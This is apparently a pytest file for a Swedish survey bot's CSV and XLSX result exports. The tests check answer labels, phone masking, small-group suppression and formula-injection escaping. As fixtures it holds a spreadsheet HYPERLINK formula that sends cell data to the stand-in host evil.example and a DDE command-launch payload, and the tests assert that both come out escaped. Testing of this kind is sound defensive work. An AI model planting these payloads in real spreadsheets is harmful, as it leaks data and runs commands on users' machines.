from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from bot.results.aggregate import Participation, ResponseRecord, compute
from bot.results.export_csv import header, write_answers_csv
from bot.results.export_xlsx import SUPPRESSED_MARK, write_results_xlsx
from flows.model import Survey
from tests.results.conftest import record


def sample_records() -> list[ResponseRecord]:
    records = [
        record(
            i,
            {
                "kon": "kvinna",
                "bemotande": "ja_helt" if i % 2 else "nej",
                "stod": ["samtal", "ekonomi"],
                "nojd": 4 + i % 2,
                "besok": 3,
                "datum": "2025-03-01",
                "ovrigt": "ring 070-123 45 67" if i == 0 else None,
            },
            unit="norr",
        )
        for i in range(8)
    ]
    records.append(record(99, {"bemotande": "vet_ej", "ovrigt": '=HYPERLINK("x")'}, unit="syd"))
    return records


def test_csv_has_bom_one_row_per_answer_labels_and_masked_text(survey: Survey) -> None:
    stream = io.BytesIO()
    records = sample_records()
    records[1] = ResponseRecord(
        respondent_id=records[1].respondent_id,
        completed=True,
        started_on=date(2025, 3, 3),
        attributes=records[1].attributes,
        answers=records[1].answers,
        answered_on={"bemotande": date(2025, 3, 4)},
    )
    written = write_answers_csv(stream, survey, records, lang="sv")
    raw = stream.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert not stream.closed
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == header()
    assert len(rows) - 1 == written == 8 * 6 + 1 + 2
    by_key = {(r[0], r[1]): r for r in rows[1:]}
    assert by_key[("resp-000", "bemotande")][3:6] == ["nej", "Nej", "2025-03-03"]
    assert by_key[("resp-001", "bemotande")][3:6] == [
        "ja_helt",
        "Ja, helt och hållet",
        "2025-03-04",
    ]
    assert by_key[("resp-000", "stod")][3:5] == ["samtal;ekonomi", "Samtal; Ekonomi"]
    assert by_key[("resp-000", "ovrigt")][3] == "ring [telefon]"
    # A formula typed by a respondent stays text in a spreadsheet.
    assert by_key[("resp-099", "ovrigt")][3] == '\'=HYPERLINK("x")'
    assert by_key[("resp-000", "nojd")][2:4] == ["scale", "4"]
    assert by_key[("resp-000", "besok")][6:9] == ["", "", "norr"]


def test_csv_to_a_path(tmp_path: Path, survey: Survey) -> None:
    path = tmp_path / "svar.csv"
    assert write_answers_csv(path, survey, sample_records()[:1], lang="en") == 7
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[2][1:5] == ["bemotande", "select_one", "nej", "No"]


def test_xlsx_summary_breakdowns_and_answers(survey: Survey) -> None:
    records = sample_records()
    results = compute(
        survey,
        records,
        Participation(invited=20, started=10, completed=9, opted_out=1),
        k=5,
        breakdowns=("unit", "gender"),
        suppression="cells",
    )
    out = io.BytesIO()
    write_results_xlsx(out, survey, results, records=records)
    out.seek(0)
    book = load_workbook(out)
    assert book.sheetnames == ["Sammanfattning", "Enhet", "Kön", "Svar", "Om svaren"]

    summary = book["Sammanfattning"]
    assert [c.value for c in summary[1]][:4] == ["Fråga", "Svarsalternativ", "Antal", "Andel"]
    assert summary.freeze_panes == "A2"
    assert summary["A1"].font.bold
    assert summary.column_dimensions["B"].width > 10
    values = {(row[1].value, row[0].value or ""): row for row in summary.iter_rows(min_row=2)}
    assert values[("Inbjudna", "")][2].value == 20
    assert values[("Avböjda", "")][2].value == SUPPRESSED_MARK
    assert values[("Svarsfrekvens", "")][3].value == 9 / 20
    assert values[("Svarsfrekvens", "")][3].number_format == "0%"
    bemotande = values[("Antal svar", "Blir du bemött med respekt?")]
    assert bemotande[2].value == 9
    # "vet ej" has one answer: withheld, as is the next smallest choice it could be derived from.
    rows = list(summary.iter_rows(min_row=2, values_only=True))
    start = rows.index(tuple(c.value for c in bemotande))
    choices = {r[1]: r[2] for r in rows[start + 1 : start + 5]}
    assert choices["Vet ej"] == SUPPRESSED_MARK
    assert list(choices.values()).count(SUPPRESSED_MARK) >= 2
    notes = [r[0] for r in rows if r[0] and str(r[0]).startswith("–")]
    assert notes and "färre än 5 personer" in str(notes[0])

    unit = book["Enhet"]
    assert [c.value for c in unit[1]] == ["Fråga", "Uppgift", "Totalt", "norr", "syd"]
    n_row = next(
        r for r in unit.iter_rows(values_only=True) if r[0] == "Blir du bemött med respekt?"
    )
    # syd has one person; norr's 8 would give it away as 9 - 8, so both are withheld.
    assert n_row[2:] == (9, SUPPRESSED_MARK, SUPPRESSED_MARK)

    answers = book["Svar"]
    assert [c.value for c in answers[1]][:3] == ["respondent", "question_id", "question_type"]
    texts = [r[3] for r in answers.iter_rows(min_row=2, values_only=True) if r[1] == "ovrigt"]
    assert "ring [telefon]" in texts


def test_xlsx_to_a_path_in_english(tmp_path: Path, survey: Survey) -> None:
    results = compute(survey, [], Participation(0, 0, 0, 0), k=5, lang="en")
    path = tmp_path / "results.xlsx"
    write_results_xlsx(path, survey, results)
    book = load_workbook(path)
    assert book.sheetnames == ["Summary"]
    assert book["Summary"]["A1"].value == "Question"


EVIL_UNIT = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'


def evil_records() -> list[ResponseRecord]:
    """A contact list whose unit and target group are formulas, and formula-like answers."""
    out = []
    for i in range(12):
        rec = record(
            i,
            {"bemotande": "nej", "ovrigt": "@SUM(1+1)" if i == 0 else "-1+2", "besok": -3},
            unit=EVIL_UNIT if i % 2 else "norr",
        )
        attributes = {**rec.attributes, "target_group": "+cmd|' /C calc'!A0"}
        out.append(ResponseRecord(rec.respondent_id, True, rec.started_on, attributes, rec.answers))
    return out


def assert_no_formula(value: object, where: str) -> None:
    if isinstance(value, str) and not re.fullmatch(r"-?\d+", value):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{where}: {value!r}"


def test_every_xlsx_cell_is_escaped_group_labels_included(survey: Survey) -> None:
    """Issue 12 item 7: a contact's unit `=HYPERLINK(...)` must not go live in a breakdown sheet."""
    records = evil_records()
    results = compute(
        survey, records, Participation(20, 12, 12, 0), k=5, breakdowns=("unit", "target_group")
    )
    out = io.BytesIO()
    write_results_xlsx(out, survey, results, records=records)
    out.seek(0)
    book = load_workbook(out)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert_no_formula(cell.value, f"{sheet.title}!{cell.coordinate}")
                seen.add(cell.value)
    assert "'" + EVIL_UNIT in seen
    assert "'+cmd|' /C calc'!A0" in seen
    assert -3 in seen  # numbers stay numbers


def test_every_csv_cell_is_escaped(survey: Survey) -> None:
    stream = io.BytesIO()
    write_answers_csv(stream, survey, evil_records(), lang="sv")
    rows = list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert_no_formula(cell, "csv")
    assert "'@SUM(1+1)" in cells and "'-1+2" in cells and "-3" in cells
